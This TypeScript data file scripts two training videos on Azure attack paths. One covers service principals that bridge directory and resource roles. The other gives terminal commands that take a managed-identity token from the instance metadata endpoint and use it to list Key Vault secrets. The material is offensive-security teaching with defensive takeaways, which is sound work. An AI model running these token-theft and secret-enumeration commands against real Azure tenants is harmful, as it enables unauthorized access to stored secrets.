import type { Film } from './scenes.ts'

export const azureFilms: Film[] = [
  {
    name: 'two-planes-of-azure',
    title: 'Two planes, two sets of roles',
    scenes: [
      {
        kind: 'title',
        eyebrow: 'Azure Attack Paths',
        title: 'Two planes, two sets of roles',
        say: ['Azure has two permission systems that look alike. Most attack paths cross between them.'],
      },
      {
        kind: 'diagram',
        heading: 'Directory on the left, resources on the right',
        steps: [
          { id: 'entra', x: 80, y: 120, w: 280, label: 'Entra ID', sub: 'users, groups, applications' },
          {
            id: 'arm',
            x: 600,
            y: 120,
            w: 280,
            label: 'Azure Resource Manager',
            sub: 'subscriptions, vaults, machines',
          },
          { id: 'drole', x: 80, y: 260, w: 280, label: 'Directory roles', sub: 'Application Administrator' },
          { from: 'entra', to: 'drole' },
          { id: 'rrole', x: 600, y: 260, w: 280, label: 'Azure roles', sub: 'Owner, Contributor, Reader' },
          { from: 'arm', to: 'rrole' },
          {
            id: 'sp',
            x: 340,
            y: 410,
            w: 280,
            label: 'Service principal',
            sub: 'lives in one, acts in the other',
            tone: 'signal',
          },
          { from: 'drole', to: 'sp', label: 'adds a secret' },
          { from: 'sp', to: 'rrole', label: 'signs in' },
        ],
        say: [
          'Entra ID keeps identities and has directory roles of its own.',
          'Resource Manager keeps subscriptions and has Azure roles on scopes.',
          'A service principal lives in the directory and acts on resources. Whoever may add a secret to it owns both ends.',
        ],
      },
      {
        kind: 'terminal',
        heading: 'Ask both planes',
        lines: [
          { as: 'in', text: 'az role assignment list --assignee $APP --all -o table' },
          { as: 'out', text: 'Principal     Role         Scope' },
          { as: 'mark', text: 'build-runner  Contributor  /subscriptions/…/rg-payments' },
          { as: 'in', text: 'az ad app owner list --id $APP --query "[].displayName"' },
          { as: 'mark', text: '[ "Lab User" ]' },
        ],
        say: ['The application is Contributor on payments, and our lab user owns the application. That is a path.'],
      },
      {
        kind: 'summary',
        points: [
          'Directory roles and Azure roles are different lists.',
          'Owning an application means owning its rights.',
          'Always draw both planes.',
        ],
        say: ['Two lists, one path. Always draw both planes before you move.'],
      },
    ],
  },
  {
    name: 'managed-identity-tokens',
    title: 'A token from a managed identity',
    scenes: [
      {
        kind: 'title',
        eyebrow: 'Azure Attack Paths',
        title: 'A token from a managed identity',
        say: ['Managed identities have no password to steal. They have something easier.'],
      },
      {
        kind: 'terminal',
        heading: 'On the machine: ask for a token',
        lines: [
          { as: 'in', text: 'U=http://169.254.169.254/metadata/identity/oauth2/token' },
          { as: 'in', text: 'T=$(curl -s -H Metadata:true \\' },
          { as: 'out', text: '    "$U?api-version=2018-02-01&resource=https://vault.azure.net" \\' },
          { as: 'out', text: '    | jq -r .access_token)' },
          { as: 'in', text: 'echo $T | cut -d. -f2 | base64 -d 2>/dev/null | jq -r .oid' },
          { as: 'mark', text: '5d0f7c1e-3a52-4c0b-9a6f-2f4f0d6b7a10' },
        ],
        say: [
          'Anything that runs on the machine can ask the metadata address for a token.',
          'The token names the identity it speaks for. Note its object id for your report.',
        ],
      },
      {
        kind: 'terminal',
        heading: 'Anywhere: use the token',
        lines: [
          { as: 'in', text: 'V=https://kv-payments.vault.azure.net/secrets' },
          { as: 'in', text: 'curl -s -H "Authorization: Bearer $T" "$V?api-version=7.4" \\' },
          { as: 'out', text: '    | jq -r ".value[].id"' },
          { as: 'mark', text: 'https://kv-payments.vault.azure.net/secrets/ledger-reader' },
        ],
        say: ['The vault takes the token from any address unless its firewall says otherwise. It lives up to a day.'],
      },
      {
        kind: 'summary',
        points: [
          'Code on the machine is the identity.',
          'One token opens one audience: ask for each.',
          'A vault firewall stops tokens used elsewhere.',
        ],
        say: ['Code on the machine is the identity. Scope its roles, and fence the vault.'],
      },
    ],
  },
]
